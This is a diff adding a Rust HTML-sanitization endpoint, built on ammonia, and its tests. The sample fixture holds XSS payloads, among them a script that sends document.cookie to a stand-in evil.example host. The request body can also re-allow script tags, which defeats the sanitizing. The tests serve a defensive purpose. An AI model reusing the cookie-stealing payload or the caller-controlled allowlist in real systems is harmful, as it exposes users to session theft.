@@ -0,0 +1,129 @@
+// ======================
+// SANITIZAÇÃO DE HTML
+// ======================
+//
+// Conteúdo gerado por usuário (comentários, descrições, e-mails) passa pelo BFF
+// antes de chegar no front, e limpar o HTML é parse completo de um documento
+// mais a reescrita dele. `html` é limpo com o ammonia, que monta a árvore com o
+// html5ever e mantém só a lista branca de tags e atributos: `<script>`,
+// `<style>`, handlers `on*`, URLs `javascript:` e comentários somem, e os
+// links ganham `rel="noopener noreferrer"`. `tags` troca a lista de tags
+// permitidas pela informada; `script` e `style` nela deixam de ter o conteúdo
+// removido junto (o ammonia entra em pânico com uma tag nas duas listas).
+//
+// Com `iterations`, o mesmo documento é limpo várias vezes e o tempo é o
+// total; a resposta traz o HTML limpo e quanto ele encolheu.
+
+use std::{collections::HashSet, time::Instant};
+
+use ammonia::Builder;
+use axum::{
+    body::BoxBody,
+    extract::Json,
+    http::{Response, StatusCode},
+    response::IntoResponse,
+};
+use serde::Deserialize;
+
+const MAX_ITERATIONS: usize = 100_000;
+const MAX_TOTAL_BYTES: usize = 2_000_000_000;
+
+const SAMPLE: &str = r#"<div class="review"><h2 onclick="steal()">Great keyboard</h2>
+<p>Works well. <a href="javascript:alert(1)">Click</a> or <a href="https://example.com/kb">see the specs</a>.</p>
+<script>fetch("https://evil.example/?c=" + document.cookie)</script>
+<img src="https://example.com/kb.jpg" onerror="steal()" alt="Keyboard"><!-- tracking -->
+<style>body { display: none }</style><iframe src="https://evil.example"></iframe>
+<ul><li><b>Pros:</b> quiet</li><li><i>Cons:</i> no backlight</li></ul></div>"#;
+
+#[derive(Deserialize)]
+pub struct SanitizePayload {
+    html: Option<String>,
+    tags: Option<Vec<String>>,
+    iterations: Option<usize>,
+}
+
+fn bad_request(error: String) -> Response<BoxBody> {
+    (
+        StatusCode::BAD_REQUEST,
+        Json(serde_json::json!({ "error": error }))
+    )
+    .into_response()
+}
+
+pub async fn sanitize(Json(payload): Json<SanitizePayload>) -> Response<BoxBody> {
+    let html = payload.html.as_deref().unwrap_or(SAMPLE);
+    let iterations = payload.iterations.unwrap_or(1);
+    if iterations == 0 || iterations > MAX_ITERATIONS {
+        return bad_request(format!("iterations must be between 1 and {}", MAX_ITERATIONS));
+    }
+    if html.len().saturating_mul(iterations) > MAX_TOTAL_BYTES {
+        return bad_request("html size * iterations exceeds 2 GB".to_string());
+    }
+
+    let mut builder = Builder::default();
+    if let Some(tags) = &payload.tags {
+        builder.rm_clean_content_tags(tags.iter().map(String::as_str));
+        builder.tags(tags.iter().map(String::as_str).collect::<HashSet<_>>());
+    }
+
+    let start = Instant::now();
+    let mut cleaned = String::new();
+    for _ in 0..iterations {
+        cleaned = builder.clean(html).to_string();
+    }
+    let elapsed = start.elapsed();
+
+    (
+        StatusCode::OK,
+        Json(serde_json::json!({
+            "iterations": iterations,
+            "input_bytes": html.len(),
+            "output_bytes": cleaned.len(),
+            "removed_bytes": html.len().saturating_sub(cleaned.len()),
+            "output": cleaned,
+            "sanitize_ms": elapsed.as_secs_f64() * 1000.0,
+            "mb_per_second": (html.len() * iterations) as f64 / 1e6 / elapsed.as_secs_f64(),
+        }))
+    )
+    .into_response()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    async fn run(payload: serde_json::Value) -> (StatusCode, serde_json::Value) {
+        let response = sanitize(Json(serde_json::from_value(payload).unwrap())).await;
+        let status = response.status();
+        let bytes = hyper::body::to_bytes(response.into_body()).await.unwrap();
+        (status, serde_json::from_slice(&bytes).unwrap())
+    }
+
+    #[tokio::test]
+    async fn sample_loses_scripts_handlers_and_comments() {
+        let (status, body) = run(serde_json::json!({})).await;
+        assert_eq!(status, StatusCode::OK);
+        let output = body["output"].as_str().unwrap();
+        for removed in ["<script", "onclick", "onerror", "javascript:", "<!--", "<style", "<iframe"] {
+            assert!(!output.contains(removed), "{} left in {}", removed, output);
+        }
+        assert!(output.contains("rel=\"noopener noreferrer\""));
+    }
+
+    #[tokio::test]
+    async fn clean_content_tags_can_be_allowed() {
+        for tag in ["script", "style"] {
+            let html = format!("<{0}>x</{0}><b>y</b>", tag);
+            let (status, body) = run(serde_json::json!({ "html": html, "tags": [tag] })).await;
+            assert_eq!(status, StatusCode::OK, "{}", tag);
+            assert_eq!(body["output"], format!("<{0}>x</{0}>y", tag));
+        }
+    }
+
+    #[tokio::test]
+    async fn iterations_out_of_range_are_rejected() {
+        let (status, body) = run(serde_json::json!({ "iterations": 0 })).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST);
+        assert!(body["error"].is_string());
+    }
+}